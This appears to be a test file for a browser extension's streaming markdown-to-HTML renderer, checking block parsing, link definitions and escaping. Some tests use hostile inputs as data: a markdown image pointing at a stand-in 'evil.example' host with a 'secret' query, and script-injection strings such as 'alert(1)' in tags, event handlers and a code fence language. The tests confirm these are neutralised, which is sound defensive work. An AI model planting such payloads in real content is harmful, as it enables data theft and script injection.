import { describe, expect, test } from 'vitest';
import { createBlockReader, toHtml } from '#extension/sidepanel/blocks.ts';

const sample = `# Title

A paragraph with **bold**
and a second line.

- one
- two

  more of two
- three

Setext heading
===

\`\`\`ts
const a = 1;

const b = 2;
\`\`\`

| a | b |
| - | - |
| 1 | 2 |

> quote
lazy

1. first
2. second

    indented

<div>raw

text

Last *words*.
`;

const render = (text: string, isComplete = true): string => {
  const read = createBlockReader();
  return read(text, isComplete)
    .blocks.map((block) => toHtml(block, false))
    .join('');
};

describe('markdown in blocks', () => {
  test('a growing text reads at every length like the whole of it', () => {
    const grow = createBlockReader();

    for (let end = 1; end <= sample.length; end += 1) {
      const text = sample.slice(0, end);
      const grown = grow(text, false).blocks.map(({ raw }) => raw);
      const whole = createBlockReader()(text, true).blocks.map(({ raw }) => raw);
      expect(grown, `at ${end}`).toEqual(whole);
    }
  });

  test('appending leaves the blocks before the last two untouched', () => {
    const grow = createBlockReader();
    const before = grow('a\n\nb\n\nc\n\nd', false).blocks;
    const after = grow('a\n\nb\n\nc\n\nd and more', false).blocks;

    expect(after.map((block, index) => block === before[index])).toEqual([true, true, false, false]);
  });

  test('a text that was replaced is read anew', () => {
    const grow = createBlockReader();
    grow('first version', false);

    expect(grow('another', false).blocks.map(({ raw }) => raw)).toEqual(['another']);
  });

  test('link definitions at the end reach the text above them when it is complete', () => {
    const grow = createBlockReader();
    grow('see [it][x]\n\nmore\n\nend', false);
    const { blocks, revision } = grow('see [it][x]\n\nmore\n\n[x]: https://example.org', true);

    expect(revision).toBe(1);
    expect(blocks.map((block) => toHtml(block, false)).join('')).toContain('href="https://example.org"');
  });

  test('an image is a link, never loaded', () => {
    const html = render('![plan](https://evil.example/?q=secret)');

    expect(html).toContain('<a href="https://evil.example/?q=secret">');
    expect(html).not.toContain('<img');
  });

  test('tags are text, but for a few plain ones', () => {
    expect(render('a <kbd>K</kbd> <script>alert(1)</script> <div onclick="x">y</div>')).toContain(
      'a <kbd>K</kbd> &lt;script&gt;alert(1)&lt;/script&gt; &lt;div onclick=&quot;x&quot;&gt;y&lt;/div&gt;',
    );
    expect(render('<b onmouseover=alert(1)>x</b>')).not.toContain('<b onmouseover');
  });

  test('code is coloured when its language is known, and escaped in any case', () => {
    expect(render('```ts\nconst a = "<b>";\n```')).toContain('<span class="hljs-keyword">const</span>');
    expect(render('```nonsense\n<b>\n```')).toContain('&lt;b&gt;');
    expect(render('```"onload=x\n<b>\n```')).not.toContain('"onload');
  });

  test('Windows line ends read like others', () => {
    expect(render('a\r\n\r\nb')).toBe(render('a\n\nb'));
  });
});
